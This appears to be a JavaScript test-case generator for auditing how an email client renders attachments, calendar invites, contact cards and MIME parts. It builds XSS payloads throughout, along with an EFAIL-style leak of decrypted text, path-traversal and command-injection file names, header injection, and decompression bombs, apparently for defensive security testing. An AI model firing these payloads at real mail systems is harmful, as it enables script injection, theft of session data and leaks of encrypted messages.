// Rows 10, 12, 13, 18, 19 and 21: what is enclosed. Each file is opened through the download address, asked for inline and not.

export function files({ js, to }) {
  const cases = [];
  const add = (row, name, ...enclosed) =>
    cases.push({ row, name, plain: "The file is what matters.", files: enclosed });
  const page = `<!DOCTYPE html><html><body onload="${js.replace(/"/g, "&quot;")}"><script>${js}</script><img src="${to("page")}"></body></html>`;
  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${js.replace(/"/g, "&quot;")}"><script>${js}</script><image href="${to("svgfile")}"/></svg>`;
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html>`;
  const xsl = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${to("xslfile")}"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`;
  const png = Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  );

  // ---- active types, and types that lie about what is inside
  for (const [type, name, body] of [
    ["text/html", "x.html", page],
    ["text/html; charset=utf-7", "x.htm", page],
    ["application/xhtml+xml", "x.xhtml", xhtml],
    ["text/xml", "x.xml", xhtml],
    ["application/xml", "x.xml", xsl],
    ["application/xslt+xml", "x.xsl", xsl],
    ["application/rss+xml", "x.rss", xhtml],
    ["application/mathml+xml", "x.mml", xhtml],
    ["image/svg+xml", "x.svg", svg],
    ["image/svg", "x.svg", svg],
    ["image/svg+xml; charset=utf-8", "x.svgz", svg],
    ["image/png", "x.png", page],
    ["image/png", "x.svg", svg],
    ["image/gif", "x.gif", `GIF89a/*${page}*/`],
    ["image/jpeg", "x.jpg", svg],
    ["image/bmp", "x.bmp", page],
    ["image/x-icon", "x.ico", page],
    ["image/webp", "x.webp", page],
    ["text/plain", "x.html", page],
    ["text/plain", "x.txt", page],
    ["text/css", "x.css", `@import "${to("cssfile")}"`],
    ["text/javascript", "x.js", js],
    ["application/javascript", "x.mjs", js],
    ["application/json", "x.json", page],
    ["application/wasm", "x.wasm", page],
    ["text/csv", "x.csv", page],
    ["text/markdown", "x.md", page],
    ["application/octet-stream", "x.html", page],
    ["application/octet-stream", "x", page],
    ["application/x-shockwave-flash", "x.swf", page],
    ["multipart/x-mixed-replace", "x.html", page],
    ["message/http", "x.http", `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n${page}`],
    ["application/pdf", "x.pdf", page],
    [
      "application/pdf",
      "js.pdf",
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('${to("pdf")}'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(javascript:${js.replace(/[()\\]/g, "\\$&")})>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    ],
    ["video/mp4", "x.mp4", page],
    ["audio/mpeg", "x.mp3", page],
    ["text/vtt", "x.vtt", `WEBVTT\n\n00:00.000 --> 00:09.000\n<img src=x onerror=${js}>`],
    ["application/vnd.ms-htmlhelp", "x.chm", page],
    ["application/hta", "x.hta", page],
    ["text/x-component", "x.htc", page],
    [
      "message/rfc822",
      "x.eml",
      `From: a@b.example\r\nSubject: <script>${js}</script>\r\nContent-Type: text/html\r\n\r\n${page}`,
    ],
    ["application/x-mimearchive", "x.mhtml", `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`],
    ["text/cache-manifest", "x.appcache", `CACHE MANIFEST\n${to("manifest")}`],
    ["TEXT/HTML", "x.HTML", page],
    ["text/html\u00e4", "x.html", page],
    ["text/html, text/plain", "x.html", page],
    ["*/*", "x.html", page],
    ["", "x.html", page],
    [`text/html"><script>${js}</script>`, "x.html", page],
    [`${"a".repeat(300)}/${"b".repeat(300)}`, "x.html", page],
    ["../../etc/passwd", "x.html", page],
    ["unknown/unknown", "x.svg", svg],
  ])
    add(10, `file of type ${type.slice(0, 40) || "none"} named ${name}`, { type, name, body });

  // ---- names are text
  const img = `<img src=x onerror=${js.replace(/["' ]/g, "")}>`;
  for (const name of [
    `${img}.png`,
    `"onmouseover="${js}".pdf`,
    `</script>${img}.txt`,
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\autoexec.bat",
    "x.png\r\nSet-Cookie: xss=1",
    "x\u0000.html.png",
    "\u202egnp.exe",
    "con.txt",
    ".htaccess",
    " ",
    ".",
    "..",
    "%2e%2e%2fx",
    "x;filename=y.html",
    'x"; filename="y.html',
    `${"ä".repeat(400)}.pdf`,
    "a/b/c.txt",
    "~/.bashrc",
    "$(id).txt",
    "`id`.txt",
    "-rf",
    "x.html .png",
    "x.pdf.exe",
    "naïve 日本語 عربى.txt",
    "=?utf-8?q?x.html?=",
    "it's.txt",
    "{{7*7}}.txt",
    "<svg onload=x()>.svg",
  ]) {
    add(11, `file name ${JSON.stringify(name).slice(0, 40)}`, { type: "image/png", name, body: png });
  }

  // ---- calendars and cards
  const event = (fields) =>
    `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@attacker.example\r\nDTSTART:20261201T100000Z\r\n${fields}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`;
  for (const [how, fields] of Object.entries({
    "markup in the summary": `SUMMARY:${img}\r\nDESCRIPTION:<script>${js}</script>\r\nLOCATION:"><svg onload=${js}>`,
    "html description": `SUMMARY:x\r\nX-ALT-DESC;FMTTYPE=text/html:<html><body onload=${js}><details open ontoggle=${js}></body></html>`,
    "details on its own": `SUMMARY:<details ontoggle=${js} open>`,
    "organizer that is markup": `SUMMARY:x\r\nORGANIZER;CN="${img.replace(/"/g, "'")}":mailto:a"onclick="${js}@b.example\r\nATTENDEE;CN=<script>${js}</script>:javascript:${js}`,
    "addresses that are script": `SUMMARY:x\r\nURL:javascript:${js}\r\nATTACH:javascript:${js}\r\nATTACH;FMTTYPE=text/html;ENCODING=BASE64;VALUE=BINARY:${Buffer.from(page).toString("base64")}\r\nCONFERENCE:javascript:${js}`,
    "picture from afar": `SUMMARY:x\r\nIMAGE;VALUE=URI:${to("icsimage")}\r\nATTACH:${to("icsattach")}`,
    alarm: `SUMMARY:x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nTRIGGER:-PT1M\r\nATTACH:file:///bin/sh\r\nEND:VALARM\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT1M\r\nATTACH:${to("icsalarm")}\r\nEND:VALARM`,
    "repeats for ever": "SUMMARY:x\r\nRRULE:FREQ=SECONDLY",
    "time zone that is markup": `SUMMARY:x\r\nDTEND;TZID="${img.replace(/"/g, "'")}":20261201T110000`,
  })) {
    cases.push({
      row: 12,
      name: `calendar, ${how}`,
      alternative: { type: "text/calendar; method=REQUEST; charset=utf-8", body: event(fields) },
      plain: "An invitation.",
    });
    add(12, `calendar file, ${how}`, { type: "text/calendar", name: "invite.ics", body: event(fields) });
  }
  for (const [how, card] of Object.entries({
    "markup in the name": `FN:${img}\r\nN:<script>${js}</script>;;;;\r\nNOTE:${img}\r\nORG:"><svg onload=${js}>`,
    "addresses that are script": `FN:x\r\nURL:javascript:${js}\r\nPHOTO;VALUE=URI:javascript:${js}\r\nIMPP:javascript:${js}\r\nSOUND:${to("vcardsound")}`,
    "photo from afar": `FN:x\r\nPHOTO;VALUE=URI:${to("vcard")}\r\nLOGO:${to("vcard2")}\r\nKEY:${to("vcardkey")}`,
    "photo is svg": `FN:x\r\nPHOTO:data:image/svg+xml;base64,${Buffer.from(svg).toString("base64")}`,
    "folded markup": `FN:<im\r\n g src=x onerr\r\n or=${js}>`,
  }))
    add(12, `card, ${how}`, {
      type: "text/vcard",
      name: "card.vcf",
      body: `BEGIN:VCARD\r\nVERSION:4.0\r\n${card}\r\nEND:VCARD\r\n`,
    });

  // ---- parts shown in place
  cases.push({
    row: 13,
    name: "related picture that is a page",
    html: '<img src="cid:a@b"><iframe src="cid:a@b"></iframe><object data="cid:a@b"></object><embed src="cid:a@b"><a href="cid:a@b">x</a><link rel=stylesheet href="cid:a@b"><script src="cid:a@b"></script>',
    related: [{ type: "text/html", name: "x.html", id: "a@b", body: page }],
  });
  cases.push({
    row: 13,
    name: "related picture that is svg",
    html: '<img src="cid:a@b"><svg><use href="cid:a@b#x"/></svg><object data="cid:a@b" type="image/svg+xml"></object>',
    related: [{ type: "image/svg+xml", name: "x.svg", id: "a@b", body: svg }],
  });
  cases.push({
    row: 13,
    name: "related sheet",
    html: '<link rel=stylesheet href="cid:a@b"><style>@import "cid:a@b"; p { background: url("cid:a@b") }</style><p>x</p>',
    related: [{ type: "text/css", name: "x.css", id: "a@b", body: `p{background:url(${to("relatedcss")})}` }],
  });
  cases.push({
    row: 13,
    name: "related picture says image, is a page",
    html: '<img src="cid:a@b"><img src="CID:A@B"><img src="cid:a%40b">',
    related: [{ type: "image/png", name: "x.png", id: "a@b", body: page }],
  });
  cases.push({
    row: 13,
    name: "content id that is markup",
    html: `<img src="cid:&quot;&gt;&lt;img src=x onerror=x&gt;">`,
    related: [{ type: "image/png", name: "x.png", id: `"><img src=x onerror=${js.replace(/[ "]/g, "")}>`, body: png }],
  });
  cases.push({
    row: 13,
    name: "content location from afar",
    html: `<img src="x.png"><img src="${to("location")}">`,
    related: [{ type: "image/png", name: "x.png", location: to("location"), body: png }],
  });
  cases.push({
    row: 13,
    name: "a page as the inline part of a mixed message",
    plain: "Text first.",
    files: [{ type: "text/html", name: "inline.html", disposition: "inline", body: page }],
  });
  cases.push({
    row: 13,
    name: "external body",
    plain: "Somewhere else.",
    files: [
      {
        type: `message/external-body; access-type=URL; URL="${to("external")}"`,
        name: "",
        disposition: "inline",
        body: "Content-Type: text/html\r\nContent-ID: <x@y>\r\n\r\n",
      },
    ],
  });
  cases.push({
    row: 13,
    name: "letters in letters",
    plain: "Seven deep.",
    files: [
      {
        type: "message/rfc822",
        name: "a.eml",
        encoding: "8bit",
        body: Array.from({ length: 7 }).reduce(
          (inner) =>
            `From: "${img.replace(/"/g, "'")}" <a@b.example>\r\nSubject: ${img}\r\nMIME-Version: 1.0\r\nContent-Type: ${inner ? "message/rfc822" : "text/html"}\r\n\r\n${inner || page}`,
          "",
        ),
      },
    ],
  });
  cases.push({
    row: 13,
    name: "delivery report with markup",
    plain: "It failed.",
    files: [
      {
        type: "message/delivery-status",
        name: "",
        disposition: "inline",
        body: `Reporting-MTA: dns; ${img}\r\n\r\nFinal-Recipient: rfc822; <script>${js}</script>\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 ${img}\r\n`,
      },
    ],
  });
  cases.push({
    row: 13,
    name: "rich text of old",
    alternative: {
      type: "text/enriched",
      body: `<bold>x</bold><<script>${js}<</script><param>url(${to("enriched")})</param>`,
    },
    plain: "x",
  });
  cases.push({
    row: 21,
    name: "encrypted text between two open pieces",
    html: `<img src="${to("efail")}?`,
    files: [
      {
        type: "text/plain",
        name: "",
        disposition: "inline",
        body: "-----BEGIN PGP MESSAGE-----\r\n\r\nsecret\r\n-----END PGP MESSAGE-----",
      },
      { type: "text/html", name: "", disposition: "inline", body: `"><p>${to("efail2")}</p>` },
    ],
  });
  cases.push({
    row: 19,
    name: "zip that grows",
    plain: "x",
    files: [
      {
        type: "application/zip",
        name: "x.zip",
        body: Buffer.from("UEsDBBQAAAAIAAAAIQAAAAAAAAAAAP////8FAAAAeC50eHQ=", "base64"),
      },
      { type: "application/ms-tnef", name: "winmail.dat", body: Buffer.from("eJ8+Ig==", "base64") },
    ],
  });
  cases.push({
    row: 19,
    name: "picture that claims to be huge",
    html: '<img src="cid:a@b">',
    related: [
      {
        type: "image/png",
        name: "x.png",
        id: "a@b",
        body: Buffer.concat([
          Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"),
          Buffer.from("7fffffff7fffffff0806000000", "hex"),
          Buffer.alloc(40),
        ]),
      },
    ],
  });
  cases.push({
    row: 19,
    name: "two hundred parts",
    plain: "x",
    files: Array.from({ length: 200 }, (_, i) => ({ type: "text/plain", name: `${img}${i}.txt`, body: img })),
  });
  return cases;
}
